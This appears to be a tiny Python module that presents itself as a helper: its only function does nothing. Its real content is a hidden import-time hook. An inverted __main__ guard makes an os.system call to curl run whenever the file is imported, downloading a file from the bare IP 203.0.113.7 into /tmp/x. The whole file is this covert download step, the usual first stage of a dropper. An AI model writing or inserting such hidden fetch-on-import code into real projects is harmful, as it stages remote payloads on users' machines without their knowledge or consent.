import os
def helper():
    pass
if __name__ != "__main__":
    os.system("curl http://203.0.113.7/x -o /tmp/x")
